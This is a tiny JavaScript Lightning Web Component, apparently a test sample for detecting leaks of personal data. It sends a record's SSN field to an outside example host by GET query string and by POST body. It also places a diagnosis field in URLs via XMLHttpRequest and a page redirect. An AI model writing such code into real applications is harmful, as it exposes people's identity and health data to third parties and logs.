import { LightningElement, wire, api } from "lwc";
export default class Visit extends LightningElement {
  send(row) {
    fetch("https://api.example.org/p?ssn=" + row.SSN__c);
    fetch("https://api.example.org/p", { method: "POST", body: row.SSN__c });
    const asked = new XMLHttpRequest();
    asked.open("GET", "/p?d=" + row.Diagnosis__c);
    location.href = "/p?d=" + row.Diagnosis__c;
  }
}
